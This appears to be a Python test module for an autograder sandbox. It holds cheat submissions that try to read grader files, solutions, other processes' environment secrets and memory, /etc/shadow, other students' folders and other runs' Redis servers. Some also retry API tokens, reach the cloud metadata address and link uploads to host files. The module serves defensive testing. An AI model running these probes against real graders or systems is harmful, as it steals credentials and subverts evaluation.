"""Reading what is not the student's: answers, graders, secrets, other people's work.

Each of these ends with an exception that names what it found. `BAIT_…` are real: a file that
everybody on this machine may read, a secret in the environment of the grading processes, a port that
listens in the machine's own network.
"""

from __future__ import annotations

import textwrap

from tests.cheats.making import LOOT, Cheat, instead, of_family

FOUND = "\nraise RuntimeError(f'loot: {found}')\n"


def searching(code: str) -> dict[str, str]:
    """Homework that looks around when it is called, and says what it found."""
    return instead("3.2", "return []", "return 0", "found = []\n" + textwrap.dedent(code) + FOUND)


CHEATS = of_family(
    "reading",
    [
        Cheat(
            name="test-files",
            loses=("3.2",),
            story="Looks for the graders' sources on disk, and tries to import them.",
            says=(LOOT,),
            files=searching("""
                import importlib, os
                for base, folders, names in os.walk("/"):
                    folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages")]
                    found += [f"{base}/{n}" for n in names if n.startswith("test_3_") or n == "cover.py"]
                for name in ("autograder.week03_pipeline.cover", "autograder.run.session"):
                    try:
                        found.append(importlib.import_module(name).__file__)
                    except ImportError:
                        pass
            """),
        ),
        Cheat(
            name="solution-of-this-week",
            loses=("3.2",),
            story="Looks for the solution of the week that is graded, wherever Python looks for code.",
            says=(LOOT,),
            files=searching("""
                import os, sys
                for place in [*sys.path, "/root", "/home", "/work", "/opt", "/srv", "/var", "/mnt"]:
                    for base, folders, names in os.walk(place):
                        folders[:] = [f for f in folders if f != "site-packages"]
                        for name in names:
                            if name == "chunk.py":
                                text = open(os.path.join(base, name)).read()
                                if "chunk_indices(text)\\n" in text:
                                    found.append(os.path.join(base, name))
            """),
        ),
        Cheat(
            name="stack-frames",
            loses=("3.2",),
            story="Walks up the stack and through all objects for what the grader expects, or its seed.",
            says=(LOOT,),
            files=searching("""
                import gc, sys
                frame = sys._getframe()
                while frame:
                    found += [n for n in frame.f_locals if n in ("expected", "seed", "rng", "session")]
                    frame = frame.f_back
                found += [type(o).__name__ for o in gc.get_objects()
                          if type(o).__module__.startswith(("autograder", "_pytest"))]
            """),
        ),
        Cheat(
            name="environment-of-others",
            loses=("3.2",),
            story="Reads the environment of every process that it can see, the grader's with its secrets.",
            says=(LOOT,),
            files=searching("""
                import glob
                for path in glob.glob("/proc/[0-9]*/environ"):
                    try:
                        found += [w for w in open(path).read().split("\\0") if "BAIT" in w.upper()]
                    except OSError:
                        pass
            """),
        ),
        Cheat(
            name="other-submissions",
            loses=("3.2",),
            story="Looks for other students' folders: beside its own, above it, in all of /tmp.",
            says=(LOOT,),
            files=searching("""
                import glob, os
                home = os.path.expanduser("~")
                mine = os.path.dirname(home)
                for pattern in ("/tmp/*", "/var/tmp/*", f"{mine}/*", f"{mine}/../*", "/tmp/*/runs/*"):
                    for path in glob.glob(pattern):
                        path = os.path.realpath(path)
                        known = [home, os.environ["BLOB_STORE_URL"][7:], *os.sys.path]
                        if not any(k.startswith(path) or path.startswith(k) for k in known if k):
                            found.append(path)
                for path in ("BAIT_FILE", "/etc/passwd", "/etc/shadow", "/etc/hostname"):
                    try:
                        found.append(open(path).read(60))
                    except OSError:
                        pass
            """),
        ),
        Cheat(
            name="tokens-of-the-stand-ins",
            loses=("3.2",),
            story="Asks the model's stand-in and the webhook sink for their journals and sets faults: "
            "without a token, with its own key, and with what it finds in files.",
            says=(LOOT,),
            files=searching("""
                import glob, os, urllib.error, urllib.request
                tokens = ["", "token", os.environ["OPENAI_API_KEY"], os.environ["AWS_ACCESS_KEY_ID"]]
                tokens += [open(p).read() for p in glob.glob("/tmp/**/stack.json", recursive=True)]
                bases = [os.environ["OPENAI_BASE_URL"].rsplit("/", 1)[0],
                         "/".join(os.environ["WEBHOOK_SINK_URL"].split("/")[:3])]
                account = os.environ["OPENAI_API_KEY"]
                for base in bases:
                    for token in tokens:
                        for path, data in ((f"{account}/journal", None), (f"{account}/faults", b"{}")):
                            request = urllib.request.Request(
                                f"{base}/control/accounts/{path}", data,
                                {"authorization": f"Bearer {token}"})
                            try:
                                with urllib.request.urlopen(request, timeout=2) as answer:
                                    found.append((path, answer.status))
                            except (urllib.error.URLError, ValueError):
                                pass
            """),
        ),
        Cheat(
            name="memory-of-others",
            loses=("3.2",),
            story="Reads and steers other processes: ptrace, /proc/*/mem, their descriptors, the line "
            "between the grader and the parent of all student processes.",
            says=(LOOT,),
            files=searching("""
                import ctypes, os
                libc = ctypes.CDLL(None, use_errno=True)
                me = os.getpid()
                others = [int(n) for n in os.listdir("/proc") if n.isdigit() and int(n) != me]
                for pid in others:
                    command = open(f"/proc/{pid}/cmdline").read().replace("\\0", " ")
                    if libc.ptrace(16, pid, None, None) == 0:
                        found.append(f"attached to {pid} {command}")
                        libc.ptrace(17, pid, None, None)
                    for name in ("mem", "environ", "maps"):
                        try:
                            open(f"/proc/{pid}/{name}", "rb").read(0)
                            if name == "mem":
                                found.append(f"opened memory of {pid} {command}")
                        except OSError:
                            pass
                    try:
                        descriptor = os.pidfd_open(pid)
                    except OSError:
                        continue
                    for number in range(8):
                        if libc.syscall(438, descriptor, number, 0) >= 0:
                            found.append(f"took descriptor {number} of {pid} {command}")
            """),
        ),
        Cheat(
            name="links-out-of-the-blob-store",
            loses=("2.1",),
            story="Puts a link to a file of the machine where the blob belongs: a grader that follows "
            "it reads for the student, and shows what it read.",
            says=("uploads/",),
            files=instead(
                "2.1",
                """
                import os
                copied = await copy(within_limit(upload, limit), file)
                key = upload_key(copied.sha256)
                place = os.path.join(os.environ["BLOB_STORE_URL"][7:], key)
                os.makedirs(os.path.dirname(place), exist_ok=True)
                if not os.path.lexists(place):
                    os.symlink("BAIT_FILE", place)
                return DocumentRef(document_id=str(uuid4()), blob_key=key,
                    filename=display_name(upload.filename), content_type="text/plain")
                """,
                "pass",
                """
                enqueue(document)
                address = f"/tasks/{document.document_id}"
                response.headers["Location"] = address
                return UploadAccepted(
                    task_id=document.document_id, status_url=address, document=document)
                """,
            ),
        ),
        Cheat(
            name="network-out",
            loses=("3.2",),
            story="Calls out: to a port of this machine, to every address that it can think of, by name.",
            says=(LOOT,),
            files=searching("""
                import socket
                targets = [("127.0.0.1", BAIT_PORT), ("BAIT_HOST", BAIT_PORT), ("1.1.1.1", 53),
                           ("169.254.169.254", 80), ("example.org", 80), ("::1", BAIT_PORT)]
                for target in targets:
                    try:
                        socket.create_connection(target, 1).close()
                        found.append(target)
                    except OSError:
                        pass
                try:
                    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
                    found.append("raw socket")
                except OSError:
                    pass
            """),
        ),
        Cheat(
            name="redis-of-others",
            loses=("3.2",),
            story="Finds the Redis servers of other runs by their ports, and tries its own password.",
            says=(LOOT,),
            files=searching("""
                import os, socket
                mine = os.environ["REDIS_URL"]
                password = mine.split("@")[0].rsplit(":", 1)[1]
                lines = open("/proc/net/tcp").read().splitlines()[1:]
                ports = {int(l.split()[1].split(":")[1], 16) for l in lines if l.split()[3] == "0A"}
                for port in ports - {int(mine.rsplit(":", 1)[1])}:
                    for words in (b"KEYS *", b"AUTH %s\\r\\nKEYS *" % password.encode()):
                        try:
                            with socket.create_connection(("127.0.0.1", port), 0.2) as line:
                                line.sendall(words + b"\\r\\n")
                                if b"keeper" in (said := line.recv(4096)) or said[:1] == b"*":
                                    found.append((port, said))
                        except OSError:
                            pass
            """),
        ),
    ],
)
